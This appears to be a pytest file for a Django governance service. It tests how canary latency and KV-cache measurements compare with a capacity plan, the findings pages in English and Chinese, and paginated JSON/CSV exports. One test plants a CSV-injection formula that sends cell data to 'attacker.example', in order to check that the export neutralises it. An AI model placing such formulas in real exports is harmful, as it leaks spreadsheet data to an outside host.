"""The plan meets reality: the canary's measured TTFT / TPOT / KV usage held against the capacity
plan's figures and intervals (pure), recorded as calibration rows, shown on the request page (en and
zh-Hans), exported per cluster and engine (JSON and CSV), and a canary measured worse than planned by
more than the tolerance flagged for engineering (a finding on the page, `canary.plan_exceeded`)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client

from governance.audit.models import AuditEvent
from governance.canary.models import CanaryAnalysis, MeasurementSource, PlanMeasurement
from governance.canary.plan_fit import AS_PLANNED, NO_DATA, WORSE, kv_figure, latency_figure, plan_vs_measured
from governance.evaluations.models import EvalRun
from tests.canary.conftest import Rollout
from tests.canary.fakes import FakeEngine
from tests.canary.test_analysis import analyse, engine_like_approved, metrics, reference  # noqa: F401 (fixtures)
from tests.conftest import Personas

PLAN = {
    "throughput": {"ttft_ms": 200.0, "tpot_ms": 20.0},
    "intervals": {"throughput.ttft_ms": {"low": 150, "high": 260}},
}


def test_a_latency_within_the_tolerance_is_as_planned_and_placed_in_the_interval() -> None:
    figure = latency_figure("ttft_ms", 200.0, (150.0, 260.0), [0.24, 0.24, 0.25], 0.3, 0.25)
    assert figure.verdict == AS_PLANNED
    assert figure.measured == 240.0
    assert figure.client == 300.0  # the service's own requests, beside the engine's figure
    assert figure.limit == 250.0
    assert figure.position == "inside"
    assert figure.ratio == pytest.approx(1.2)


def test_a_latency_beyond_the_tolerance_is_worse_and_the_detail_names_the_figures() -> None:
    figure = latency_figure("ttft_ms", 200.0, (150.0, 260.0), [0.3], None, 0.25)
    assert figure.verdict == WORSE
    assert figure.position == "above"
    assert "measured 300 ms against the plan's 200 ms" in figure.detail
    assert "limit 250 ms" in figure.detail


def test_no_samples_or_no_plan_figure_is_no_data_never_a_pass() -> None:
    assert latency_figure("tpot_ms", 20.0, (None, None), [], None, 0.25).verdict == NO_DATA
    assert latency_figure("tpot_ms", None, (None, None), [0.01], None, 0.25).verdict == NO_DATA
    assert kv_figure([], 0.95).verdict == NO_DATA


def test_kv_usage_at_saturation_is_worse() -> None:
    assert kv_figure([0.5, 0.6], 0.95).verdict == AS_PLANNED
    assert kv_figure([0.97, 0.99], 0.95).verdict == WORSE


def test_the_plan_is_read_with_its_intervals() -> None:
    figures = plan_vs_measured(
        PLAN,
        {"ttft_seconds": [0.18], "inter_token_latency_seconds": [0.03], "kv_cache_usage": [0.4]},
        {"client_ttft_seconds": {"median": 0.19}},
        tolerance=0.25,
        kv_saturated=0.95,
    )
    by = {f.figure: f for f in figures}
    assert (by["ttft_ms"].low, by["ttft_ms"].high, by["ttft_ms"].verdict) == (150.0, 260.0, AS_PLANNED)
    assert by["tpot_ms"].verdict == WORSE  # 30 ms against 20 x 1.25
    assert by["tpot_ms"].position == ""  # the plan states no TPOT interval here
    assert by["kv_cache_usage"].verdict == AS_PLANNED


def page(user: Any, code: str, language: str = "en") -> str:
    client = Client()
    client.force_login(user)
    response = client.get(f"/requests/{code}/", HTTP_ACCEPT_LANGUAGE=language)
    assert response.status_code == 200
    return str(response.content.decode())


@pytest.mark.django_db
def test_a_canary_slower_than_planned_is_recorded_flagged_shown_and_exported(
    rollout: Rollout,
    personas: Personas,
    reference: EvalRun,  # noqa: F811
    engine_like_approved: FakeEngine,  # noqa: F811
) -> None:
    # the canary's TTFT 3x stable's: 1.5x the plan's figure, beyond its 25% tolerance
    analysis = analyse(
        rollout, personas, engine_like_approved, metrics(rollout, {"time_to_first_token": 3.0}), cluster="gpu-east"
    )

    rows = {row.figure: row for row in PlanMeasurement.objects.filter(analysis=analysis)}
    assert set(rows) == {"ttft_ms", "tpot_ms", "kv_cache_usage"}
    planned = rollout.evidence["capacity_plan"]["result"]["throughput"]["ttft_ms"]
    ttft = rows["ttft_ms"]
    assert (ttft.source, ttft.cluster, ttft.engine, ttft.verdict) == (
        MeasurementSource.CANARY,
        "gpu-east",
        "vllm",
        "worse",
    )
    assert ttft.planned == planned
    assert ttft.measured == pytest.approx(planned * 1.5, rel=0.06)
    assert ttft.client is not None  # the live regression's own TTFT, recorded beside it
    assert rows["tpot_ms"].verdict == "as_planned"
    event = AuditEvent.objects.get(action=814)
    assert event.data["analysis"] == str(analysis.code)
    assert set(event.data["figures"]) == {"ttft_ms"}

    english = page(personas.engineer, rollout.code)
    assert 'data-finding="plan_exceeded"' in english
    assert "For engineering: measured worse than the capacity plan." in english
    assert 'data-figure="ttft_ms" data-verdict="worse"' in english
    assert 'data-figure="tpot_ms" data-verdict="as_planned"' in english
    chinese = page(personas.engineer, rollout.code, "zh-hans")
    assert "供工程评审" in chinese
    assert "实测比容量规划差" in chinese
    assert "For engineering" not in chinese


@pytest.mark.django_db
def test_the_calibration_export_per_cluster_and_engine(
    rollout: Rollout,
    personas: Personas,
    reference: EvalRun,  # noqa: F811
    engine_like_approved: FakeEngine,  # noqa: F811
) -> None:
    analyse(rollout, personas, engine_like_approved, metrics(rollout), cluster="gpu-east")
    analyse(rollout, personas, engine_like_approved, metrics(rollout, {"inter_token_latency": 1.1}), cluster="gpu-west")
    engineer = Client()
    engineer.force_login(personas.engineer)

    body = engineer.get("/api/v1/canary/plan-measurements", {"cluster": "gpu-east", "engine": "vllm"}).json()
    assert {row["cluster"] for row in body["rows"]} == {"gpu-east"}
    assert len(body["rows"]) == 3
    [ttft] = [g for g in body["groups"] if g["figure"] == "ttft_ms"]
    assert (ttft["cluster"], ttft["engine"], ttft["gpu"], ttft["n"], ttft["worse"]) == (
        "gpu-east",
        "vllm",
        "h200",
        1,
        0,
    )
    assert ttft["median_ratio"] == pytest.approx(0.5, rel=0.06)  # the exporter's TTFT is half the plan's

    exported = engineer.get("/api/v1/canary/plan-measurements", {"export": "csv"})
    assert exported["Content-Type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(exported.content.decode())))
    assert {row["cluster"] for row in table} == {"gpu-east", "gpu-west"}
    assert {"figure", "planned", "low", "high", "measured", "client", "ratio", "verdict"} <= set(table[0])

    refused = engineer.get("/api/v1/canary/plan-measurements", {"source": "nightly"})
    assert refused.status_code == 400
    assert "source" in str(refused.json())
    requester = Client()
    requester.force_login(personas.requester)
    assert requester.get("/api/v1/canary/plan-measurements").status_code == 403
    assert Client().get("/api/v1/canary/plan-measurements").status_code in (401, 403)
    assert CanaryAnalysis.objects.count() == 2


@pytest.mark.django_db
def test_the_csv_export_does_not_hand_a_spreadsheet_a_formula(
    rollout: Rollout,
    personas: Personas,
    reference: EvalRun,  # noqa: F811
    engine_like_approved: FakeEngine,  # noqa: F811
) -> None:
    """A canary's `cluster` is whatever the team's pipeline sent; an engineer opens the export in a
    spreadsheet, which runs a cell starting with = + - @ as a formula (CSV injection)."""
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    analyse(rollout, personas, engine_like_approved, metrics(rollout), cluster=formula)
    engineer = Client()
    engineer.force_login(personas.engineer)

    exported = engineer.get("/api/v1/canary/plan-measurements", {"export": "csv"})
    table = list(csv.DictReader(io.StringIO(exported.content.decode())))
    assert table
    for row in table:
        assert row["cluster"] == "'" + formula  # kept, but as text
        assert all(not str(cell).startswith(("=", "+", "-", "@")) for cell in row.values())
    assert float(table[0]["planned"]) > 0  # figures stay numbers
    body = engineer.get("/api/v1/canary/plan-measurements").json()
    assert {row["cluster"] for row in body["rows"]} == {formula}  # the JSON is data, as sent


@pytest.mark.django_db
def test_an_export_past_its_limit_says_so_and_pages_on(
    rollout: Rollout,
    personas: Personas,
    reference: EvalRun,  # noqa: F811
    engine_like_approved: FakeEngine,  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The export held the newest EXPORT_LIMIT rows and said nothing of the rest: a group's median then
    stood on part of the cluster's measurements, and older rows could not be had at all."""
    analyse(rollout, personas, engine_like_approved, metrics(rollout), cluster="gpu-east")
    analyse(rollout, personas, engine_like_approved, metrics(rollout), cluster="gpu-east")
    monkeypatch.setattr("governance.canary.api.EXPORT_LIMIT", 4)
    engineer = Client()
    engineer.force_login(personas.engineer)

    first = engineer.get("/api/v1/canary/plan-measurements").json()
    assert len(first["rows"]) == 4
    assert first["truncated"] is True
    rest = engineer.get("/api/v1/canary/plan-measurements", {"before": first["next_before"]}).json()
    assert len(rest["rows"]) == 2
    assert rest["truncated"] is False
    assert rest["next_before"] is None
    codes = {(r["analysis"], r["figure"]) for r in first["rows"]} | {(r["analysis"], r["figure"]) for r in rest["rows"]}
    assert len(codes) == 6  # every row once
    csv_page = engineer.get("/api/v1/canary/plan-measurements", {"export": "csv"})
    assert csv_page["X-Export-Truncated"] == "true"
    assert csv_page["X-Export-Next-Before"] == first["next_before"]
    refused = engineer.get("/api/v1/canary/plan-measurements", {"before": "yesterday"})
    assert refused.status_code == 400
    assert "before" in refused.json()["extra"]["fields"]
